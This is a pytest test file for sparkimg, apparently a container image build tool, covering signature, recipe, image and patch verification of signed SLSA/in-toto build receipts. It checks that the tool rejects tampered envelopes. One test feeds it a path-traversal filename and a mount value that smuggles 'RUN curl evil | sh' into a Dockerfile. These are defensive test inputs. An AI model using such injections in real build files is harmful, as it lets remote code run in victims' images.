"""Signed receipts on the real engine and registry: the demo's receipt verifies against
its recipe, image and patch sets; every tampering is rejected with its reason."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import shutil
import socket
import subprocess
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
from securesystemslib.dsse import Envelope as SslEnvelope
from securesystemslib.signer import SSlibKey

from sparkimg.cli import main
from sparkimg.engine.protocol import Engine
from sparkimg.formats.canonical import canonical
from sparkimg.signing import dsse
from sparkimg.signing.keys import load_private, load_public

from .helpers import cli, copy_demo


@dataclass(frozen=True)
class Built:
    root: Path
    spec: Path
    store: Path
    key: Path
    pub: Path
    receipt: Path
    image: str
    image_id: str

    def envelope(self) -> dict[str, Any]:
        data: dict[str, Any] = json.loads(self.receipt.read_text())
        return data

    def statement(self) -> dict[str, Any]:
        data: dict[str, Any] = json.loads(base64.b64decode(self.envelope()["payload"]))
        return data


def _run(*args: str) -> tuple[int, str, str]:
    stdout, stderr = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(stdout), contextlib.redirect_stderr(stderr):
        code = main(list(args))
    return code, stdout.getvalue(), stderr.getvalue()


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, engine: Engine, demo_base: str) -> Iterator[Built]:
    """The demo, locked, built and signed once for this module."""
    root = tmp_path_factory.mktemp("receipts")
    spec, store = copy_demo(root), root / "store"
    assert _run("keygen", "--out", str(root / "node"))[0] == 0
    assert _run("--store", str(store), "lock", str(spec))[0] == 0
    code, out, err = _run("--store", str(store), "build", str(spec), "--key", str(root / "node.key"), "--json",
                          "--quiet")
    assert code == 0, err
    result = json.loads(out)
    assert result["signed"] is True
    yield Built(root, spec, store, root / "node.key", root / "node.pub", Path(result["receipt"]),
                result["image"]["reference"], result["image"]["id"])
    engine.remove_image(result["image"]["reference"])


def verify(built: Built, *extra: str, receipt: Path | None = None, key: Path | None = None) -> tuple[int, Any, str]:
    code, out, err = _run("--store", str(built.store), "verify-receipt", str(receipt or built.receipt),
                          "--key", str(key or built.pub), "--json", *extra)
    return code, json.loads(out), err


def full(built: Built) -> list[str]:
    return ["--recipe", str(built.root / "layers" / "demo.recipe.yaml"), "--image", built.image,
            "--patches", str(built.root / "patches" / "demo-runtime")]


def test_the_demo_receipt_verifies_against_recipe_image_patches_and_store(built: Built) -> None:
    code, report, _ = verify(built, *full(built), "--rehash")
    assert code == 0, report["reasons"]
    assert report["ok"] and report["failed_stage"] is None
    assert {c["stage"] for c in report["checks"]} == {"signature", "statement", "recipe", "sbom", "image", "patches",
                                                          "store"}
    fields = {c["field"] for c in report["checks"]}
    assert {"sources.six.sha256", "base.manifest_digest", "patches.*/serve.env.md5", "image.id"} <= fields
    rehashed = [c for c in report["checks"] if c["stage"] == "store"]
    assert any(c["field"].startswith("wheel:demo-kernel/") for c in rehashed)  # the compiled wheel, re-read


def test_the_receipt_is_a_standard_statement_with_nothing_host_specific(built: Built) -> None:
    statement = built.statement()
    assert statement["_type"] == "https://in-toto.io/Statement/v1"
    assert statement["predicateType"] == "https://slsa.dev/provenance/v1"
    assert statement["subject"][0]["digest"]["sha256"] == built.image_id.removeprefix("sha256:")
    definition = statement["predicate"]["buildDefinition"]
    names = [d["name"] for d in definition["resolvedDependencies"]]
    assert names[0] == "base" and names[-1] == "lock"
    assert {"source:demo-kernel", "source:six", "patch:demo/serve.env", "patch:demo-runtime/runtime.conf",
            "toolchain"} <= set(names)
    assert definition["internalParameters"]["bounds"]["demo-kernel"]["jobs"] >= 1
    layer = next(b for b in statement["predicate"]["runDetails"]["byproducts"] if b["name"] == "layer:demo-kernel")
    assert layer["annotations"]["metrics"]["wall_s"] > 0
    assert any(121 in report["sm"] for report in layer["annotations"]["audit"])
    assert f'"{socket.gethostname()}"' not in json.dumps(statement)  # no host name unless --record-host
    assert "host" not in definition["internalParameters"]
    assert base64.b64decode(built.envelope()["payload"]) == canonical(statement)


def test_securesystemslib_verifies_the_real_receipt(built: Built) -> None:
    key = load_public(built.pub)
    theirs = SslEnvelope.from_dict(built.envelope())
    assert list(theirs.verify([SSlibKey.from_crypto(key.key, keyid=key.keyid, scheme="ecdsa-sha2-nistp256")], 1)) \
        == [key.keyid]


def _flip_b64(text: str) -> str:
    raw = bytearray(base64.b64decode(text))
    raw[len(raw) // 2] ^= 0x01
    return base64.b64encode(bytes(raw)).decode()


def _edit_statement(edit: Callable[[dict[str, Any]], None]) -> Callable[[dict[str, Any]], dict[str, Any]]:
    def change(envelope: dict[str, Any]) -> dict[str, Any]:
        statement = json.loads(base64.b64decode(envelope["payload"]))
        edit(statement)
        return {**envelope, "payload": base64.b64encode(canonical(statement)).decode()}
    return change


def _dep(statement: dict[str, Any], name: str) -> dict[str, Any]:
    deps = statement["predicate"]["buildDefinition"]["resolvedDependencies"]
    found: dict[str, Any] = next(d for d in deps if d["name"] == name)
    return found


def _set_six(statement: dict[str, Any]) -> None:
    _dep(statement, "source:six")["digest"]["sha256"] = "0" * 64


def _set_subject(statement: dict[str, Any]) -> None:
    statement["subject"][0]["digest"]["sha256"] = "0" * 64


UNSIGNED_TAMPERS = {
    "payload byte": lambda e: {**e, "payload": _flip_b64(e["payload"])},
    "signature byte": lambda e: {**e, "signatures": [{**e["signatures"][0],
                                                      "sig": _flip_b64(e["signatures"][0]["sig"])}]},
    "keyid": lambda e: {**e, "signatures": [{**e["signatures"][0], "keyid": "f" * 64}]},
    "dependency digest": _edit_statement(_set_six),
    "subject": _edit_statement(_set_subject),
}


@pytest.mark.parametrize("what", sorted(UNSIGNED_TAMPERS))
def test_any_change_to_the_envelope_breaks_the_signature(built: Built, tmp_path: Path, what: str) -> None:
    tampered = tmp_path / "tampered.json"
    tampered.write_text(json.dumps(UNSIGNED_TAMPERS[what](built.envelope())))
    code, report, _ = verify(built, *full(built), receipt=tampered)
    assert code == 1 and report["failed_stage"] == "signature"
    reason = "no signature by the trusted key" if what == "keyid" else "does not verify"
    assert reason in report["reasons"][0]
    assert report["skipped_stages"] == ["statement", "recipe", "sbom", "image", "patches"]


def _resigned(built: Built, tmp_path: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    """The receipt with its statement edited and re-signed by the trusted key itself: only the
    semantic checks can catch this."""
    statement = built.statement()
    edit(statement)
    path = tmp_path / "resigned.json"
    path.write_bytes(dsse.Envelope(canonical(statement)).signed(load_private(built.key)).dumps())
    return path


def test_a_resigned_dependency_digest_fails_the_recipe(built: Built, tmp_path: Path) -> None:
    code, report, _ = verify(built, *full(built), receipt=_resigned(built, tmp_path, _set_six))
    assert code == 1 and report["failed_stage"] == "recipe"
    assert [c["field"] for c in report["checks"] if not c["ok"]] == ["sources.six.sha256"]


def test_a_resigned_subject_fails_the_image_check(built: Built, tmp_path: Path) -> None:
    code, report, _ = verify(built, *full(built), receipt=_resigned(built, tmp_path, _set_subject))
    assert code == 1 and report["failed_stage"] == "image"
    assert [c["field"] for c in report["checks"] if not c["ok"]] == ["image.id"]


def test_another_key_is_rejected(built: Built, tmp_path: Path) -> None:
    assert _run("keygen", "--out", str(tmp_path / "other"))[0] == 0
    code, report, _ = verify(built, key=tmp_path / "other.pub")
    assert code == 1 and "no signature by the trusted key" in report["reasons"][0]


def test_a_changed_patch_file_fails_the_patch_check(built: Built, tmp_path: Path) -> None:
    folder = tmp_path / "demo-runtime"
    shutil.copytree(built.root / "patches" / "demo-runtime", folder)
    (folder / "runtime.conf").write_text((folder / "runtime.conf").read_text() + "EXTRA=1\n")
    code, report, _ = verify(built, "--image", built.image, "--patches", str(folder))
    assert code == 1 and report["failed_stage"] == "patches"
    failed = {c["field"] for c in report["checks"] if not c["ok"]}
    assert failed == {"demo-runtime/runtime.conf sha256", "demo-runtime/runtime.conf md5"}


def test_an_extra_mounted_file_fails_the_patch_check(built: Built, tmp_path: Path) -> None:
    folder = tmp_path / "demo-runtime"
    shutil.copytree(built.root / "patches" / "demo-runtime", folder)
    (folder / "extra.py").write_text("print('not pinned')\n")
    with (folder / "mounts.txt").open("a") as handle:
        handle.write("extra.py /opt/extra.py\n")
    code, report, _ = verify(built, "--patches", str(folder))
    assert code == 1 and any("an extra patch file" in c["note"] for c in report["checks"] if not c["ok"])


def test_a_rebuilt_image_under_the_same_name_fails_the_image_check(built: Built, engine: Engine,
                                                                   tmp_path: Path) -> None:
    (tmp_path / "Dockerfile").write_text(f"FROM {built.image}\nLABEL tampered=1\n")
    subprocess.run([engine.client, "build", "-q", "-t", built.image, str(tmp_path)], check=True, capture_output=True,
                   env={"DOCKER_BUILDKIT": "1", "PATH": "/usr/bin:/bin"})
    try:
        code, report, _ = verify(built, "--image", built.image)
        assert code == 1 and report["failed_stage"] == "image"
        assert [c["field"] for c in report["checks"] if not c["ok"]] == ["image.id"]
    finally:
        engine.tag(built.image_id, built.image)
    assert verify(built, "--image", built.image)[0] == 0


def test_a_recipe_that_expects_something_else_fails(built: Built, tmp_path: Path) -> None:
    original = built.root / "layers" / "demo.recipe.yaml"
    recipe = original.with_name("other.recipe.yaml")
    recipe.write_text(original.read_text().replace('six: {version: "1.16.0"}', 'six: {version: "1.17.0"}'))
    code, report, _ = verify(built, "--recipe", str(recipe))
    assert code == 1 and report["failed_stage"] == "recipe"
    assert [(c["field"], c["expected"], c["found"]) for c in report["checks"] if not c["ok"]] == \
        [("sources.six.version", "1.17.0", "1.16.0")]


def test_a_sparkring_recipe_for_the_demo_verifies(built: Built, tmp_path: Path) -> None:
    statement = built.statement()
    base = _dep(statement, "base")
    recipe = {
        "schema": "sparkring-recipe/v1", "recipe_id": "demo", "hardware": {"cuda_arch": "sm_121a"},
        "runtime": {"image_lock": {"base_image": {"manifest_digest": "sha256:" + base["digest"]["sha256"],
                                                  "config_digest": base["annotations"]["config_digest"]}},
                    "validated_local_image_id": built.image_id, "pins": {"six": "1.16.0"},
                    "patches": "../patches/demo-runtime/MD5SUMS"},
    }
    path = built.root / "layers" / "sparkring.json"
    path.write_text(json.dumps(recipe))
    code, report, _ = verify(built, "--recipe", str(path), "--image", built.image)
    assert code == 0, report["reasons"]
    recipe["runtime"]["validated_local_image_id"] = "sha256:" + "0" * 64  # type: ignore[index]
    path.write_text(json.dumps(recipe))
    code, report, _ = verify(built, "--recipe", str(path))
    assert code == 1 and [c["field"] for c in report["checks"] if not c["ok"]] == ["image.id"]


def test_the_image_verifies_from_the_registry(built: Built, engine: Engine, registry: str) -> None:
    remote = f"{registry}/{built.image}"
    engine.tag(built.image, remote)
    subprocess.run([engine.client, "push", "-q", remote], check=True, capture_output=True)
    subprocess.run([engine.client, "image", "rm", remote], check=True, capture_output=True)  # only the tag goes
    code, report, _ = verify(built, "--image", remote)
    assert code == 0, report["reasons"]
    assert "registry" in next(c for c in report["checks"] if c["field"] == "image.id")["note"]


@pytest.mark.parametrize(("content", "message"), [
    (lambda raw: raw[: len(raw) // 2], "not JSON"),
    (lambda raw: b"this is not a receipt\n", "not JSON"),
    (lambda raw: raw.replace(b"application/vnd.in-toto+json", b"application/json"), "payloadType"),
])
def test_malformed_receipts_exit_2_without_a_traceback(built: Built, tmp_path: Path, content, message: str) -> None:  # type: ignore[no-untyped-def]
    bad = tmp_path / "bad.json"
    bad.write_bytes(content(built.receipt.read_bytes()))
    code, out, err = _run("verify-receipt", str(bad), "--key", str(built.pub))
    assert code == 2 and message in err and "Traceback" not in err + out


def test_show_receipt_and_run_args(built: Built, engine: Engine) -> None:
    code, out, _ = _run("show-receipt", str(built.receipt), "--key", str(built.pub), "--json")
    shown = json.loads(out)
    assert code == 0 and shown["signature"] == "valid" and shown["facts"]["image.id"] == built.image_id
    code, out, _ = _run("run-args", str(built.receipt), "--root", str(built.root), "--json")
    args = json.loads(out)["args"]
    assert code == 0 and args == ["-v", f"{(built.root / 'patches/demo-runtime/runtime.conf').resolve()}:"
                                        "/etc/sparkimg/runtime.conf:ro"]
    inside = subprocess.run([engine.client, "run", "--rm", "--network", "none", *args, built.image, "cat",
                             "/etc/sparkimg/runtime.conf"], capture_output=True, text=True, check=True)
    assert "SPARKIMG_RUNTIME_PATCH=1" in inside.stdout


def test_run_args_refuses_a_changed_mount(built: Built, tmp_path: Path) -> None:
    shutil.copytree(built.root / "patches", tmp_path / "patches")
    (tmp_path / "patches" / "demo-runtime" / "runtime.conf").write_text("other bytes\n")
    code, _, err = _run("run-args", str(built.receipt), "--root", str(tmp_path))
    assert code == 1 and "differ from the receipt" in err


def test_a_noop_rebuild_keeps_the_receipt_and_an_unsigned_build_says_so(built: Built) -> None:
    before = built.receipt.read_bytes()
    code, out, err = _run("--store", str(built.store), "build", str(built.spec), "--key", str(built.key), "--json")
    assert code == 0 and json.loads(out)["receipt"] == str(built.receipt) and "(unchanged)" in err
    assert built.receipt.read_bytes() == before
    unsigned = built.root / "unsigned.json"
    code, out, err = _run("--store", str(built.store), "build", str(built.spec), "--receipt", str(unsigned), "--json")
    assert code == 0 and json.loads(out)["signed"] is False and "NOT signed" in err
    code, report, _ = verify(built, receipt=unsigned)
    assert code == 1 and "no signature" in report["reasons"][0]


def test_a_key_others_can_read_is_refused_by_build(built: Built, tmp_path: Path,
                                                   capsys: pytest.CaptureFixture[str]) -> None:
    open_key = tmp_path / "open.key"
    shutil.copyfile(built.key, open_key)
    open_key.chmod(0o644)
    code, _, err = cli(capsys, built.store, "build", str(built.spec), "--key", str(open_key))
    assert code == 2 and "accessible by others" in err


def test_a_lock_that_swaps_a_pinned_wheel_is_refused_by_check_build_and_verify(built: Built) -> None:
    """The spec pins six's sha256; a hand-edited lock that points at another wheel with its own
    matching sha256 is refused everywhere the lock is read (issue: the spec's pins always win)."""
    lock_path = built.spec.with_name(built.spec.name + ".lock.json")
    original = lock_path.read_text()
    lock = json.loads(original)
    six = lock["sources"]["six"]
    six.update(filename="evil-1.0-py3-none-any.whl", url="https://files.example/evil-1.0-py3-none-any.whl",
               sha256="e" * 64)
    lock_path.write_text(json.dumps(lock, indent=2, sort_keys=True) + "\n")
    try:
        for args in (("check", str(built.spec)), ("build", str(built.spec), "--quiet")):
            code, _, err = _run("--store", str(built.store), *args)
            assert code == 2 and "sources.six: lock resolved" in err and "evil-1.0" in err, (args, err)
        recipe = built.spec.with_name("demo.recipe.yaml")
        code, _, err = _run("--store", str(built.store), "verify-receipt", str(built.receipt), "--key",
                            str(built.pub), "--recipe", str(recipe))
        assert code == 2 and "sources.six: lock resolved" in err
        six["filename"] = "../../../etc/evil-1.0-py3-none-any.whl"
        lock_path.write_text(json.dumps(lock))
        code, _, err = _run("--store", str(built.store), "check", str(built.spec))
        assert code == 2 and "sources.six.filename must be a bare file name" in err
        lock = json.loads(original)  # a patch set the spec does not have, smuggled in through the lock
        lock["patches"]["extra"] = {**lock["patches"]["demo"], "mode": "bake"}
        lock_path.write_text(json.dumps(lock))
        code, _, err = _run("--store", str(built.store), "build", str(built.spec), "--quiet")
        assert code == 2 and "patches: lock has ['demo', 'demo-runtime', 'extra']" in err
        lock["patches"]["extra"]["files"][0]["mount"] = "/opt/x\nRUN curl evil | sh"
        lock_path.write_text(json.dumps(lock))
        code, _, err = _run("--store", str(built.store), "check", str(built.spec))
        assert code == 2 and "mount must be a clean absolute path" in err
    finally:
        lock_path.write_text(original)


def test_a_receipt_written_again_after_its_statement_was_lost_carries_the_same_fields(built: Built) -> None:
    records = built.store / "records" / "statements"
    fresh = built.statement()
    saved = {p: p.read_bytes() for p in records.iterdir()}
    other = built.root / "again.receipt.json"
    try:
        for path in saved:
            path.unlink()
        code, out, err = _run("--store", str(built.store), "build", str(built.spec), "--key", str(built.key),
                              "--receipt", str(other), "--json", "--quiet")
        assert code == 0 and json.loads(out)["layers"][-1]["cached"] is True, err
        again = json.loads(base64.b64decode(json.loads(other.read_text())["payload"]))
        for statement in (fresh, again):
            del statement["predicate"]["runDetails"]["metadata"]  # when and which invocation: always new
        assert again == fresh
    finally:
        for path, data in saved.items():
            path.write_bytes(data)
